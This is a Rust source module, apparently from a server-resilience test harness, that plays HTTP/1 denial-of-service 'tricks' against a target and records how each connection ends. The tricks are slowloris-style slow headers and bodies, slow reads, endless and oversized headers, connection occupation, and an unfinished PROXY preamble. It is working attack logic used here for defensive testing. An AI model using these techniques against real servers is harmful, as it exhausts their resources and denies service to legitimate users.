//! What an attacker does on a connection of HTTP/1, or before it is known what that speaks.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::sleep,
};

use super::{
    fate::Fate,
    wire::{Heard, Mark, drip},
};

/// Between two bytes of one who is slow.
const PACE: Duration = Duration::from_secs(1);

/// The smallest receive buffer that the kernel gives (it doubles what it is asked for, and has a floor).
const TINY: u32 = 1024;

/// What a slow reader asks for: more than all socket buffers on the way hold.
const LARGE: &str = "/bytes/16777216";

/// What a slow reader takes at a time.
const SIP: usize = 256;

/// What is done.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Trick {
    /// Say nothing.
    Silence,
    /// Send a head that does not end, a byte a second.
    SlowHead,
    /// Send a body that does not end, a byte a second.
    SlowBody,
    /// Read a large response, some bytes a second.
    SlowRead,
    /// Send a head that does not end, as fast as it is taken.
    EndlessHead,
    /// Send heads of a thousand headers.
    ManyHeaders,
    /// Ask once, and keep the place.
    Occupy,
    /// Begin to say on whose behalf one speaks (PROXY protocol).
    UnfinishedIntroduction,
    /// Say what may become anything.
    Riddle,
}

impl Trick {
    /// Plays it on a connection of its own; returns when that has ended.
    pub(super) async fn play(self, mark: &Mark) -> Fate {
        let window = (self == Self::SlowRead).then_some(TINY);
        let Ok(stream) = mark.connect(window).await else {
            return Fate::Unmade;
        };
        let tally = &*mark.tally;
        match self {
            Self::Silence => drip(stream, b"", b"", PACE * 1000, tally).await,
            Self::SlowHead => {
                let opening = b"GET / HTTP/1.1\r\nhost: a\r\nx-slow: ";
                drip(stream, opening, b"a", PACE, tally).await
            }
            Self::SlowBody => {
                let opening =
                    b"POST /discard HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n";
                drip(stream, opening, b"a", PACE, tally).await
            }
            Self::SlowRead => sip(stream, mark).await,
            Self::EndlessHead => pour(stream, mark).await,
            Self::ManyHeaders => bombard(stream, mark).await,
            Self::Occupy => occupy(stream, mark).await,
            Self::UnfinishedIntroduction => {
                drip(stream, b"PROXY TCP4 127.0.0.1", b"", PACE * 1000, tally).await
            }
            Self::Riddle => drip(stream, b"GE", b"", PACE * 1000, tally).await,
        }
    }
}

async fn sip(mut stream: TcpStream, mark: &Mark) -> Fate {
    let mut heard = Heard::default();
    let request = format!("GET {LARGE} HTTP/1.1\r\nhost: a\r\n\r\n");
    let _ = stream.write_all(request.as_bytes()).await;
    let mut piece = [0; SIP];
    loop {
        match stream.read(&mut piece).await {
            Ok(0) => return heard.fate(Fate::Closed),
            Ok(read) => {
                heard.take(&piece[..read]);
                mark.tally.count(read);
            }
            Err(_) => return heard.fate(Fate::Reset),
        }
        sleep(PACE).await;
    }
}

/// Headers without end.
async fn pour(mut stream: TcpStream, mark: &Mark) -> Fate {
    let header = format!("x-large: {}\r\n", "x".repeat(1000));
    let many = header.repeat(16);
    let mut heard = Heard::default();
    let (mut reads, mut writes) = stream.split();
    let poured = async {
        if writes
            .write_all(b"GET / HTTP/1.1\r\nhost: a\r\n")
            .await
            .is_ok()
        {
            while writes.write_all(many.as_bytes()).await.is_ok() {
                mark.tally.count(many.len());
            }
        }
        // Why is still to be heard.
        std::future::pending().await
    };
    tokio::select! {
        fate = heard.until_the_end(&mut reads) => fate,
        () = poured => Fate::Closed,
    }
}

/// Whole heads of more headers than anybody needs, each after the answer to the last.
async fn bombard(mut stream: TcpStream, mark: &Mark) -> Fate {
    let headers: String = (0..1000).map(|index| format!("x-{index}: y\r\n")).collect();
    let request = format!("GET / HTTP/1.1\r\nhost: a\r\n{headers}\r\n");
    let mut piece = [0; 4096];
    loop {
        let mut heard = Heard::default();
        if stream.write_all(request.as_bytes()).await.is_err() {
            return heard.until_the_end(&mut stream).await;
        }
        mark.tally.count(1);
        match stream.read(&mut piece).await {
            Ok(read @ 1..) => heard.take(&piece[..read]),
            _ => return heard.fate(Fate::Reset),
        }
        if heard.fate(Fate::Closed) != Fate::Status(200) {
            return heard.until_the_end(&mut stream).await;
        }
    }
}

/// Who is turned away hears nothing; who is served stays.
async fn occupy(mut stream: TcpStream, mark: &Mark) -> Fate {
    mark.tally.count(1);
    let _ = stream.write_all(b"GET / HTTP/1.1\r\nhost: a\r\n\r\n").await;
    Heard::default().until_the_end(&mut stream).await
}
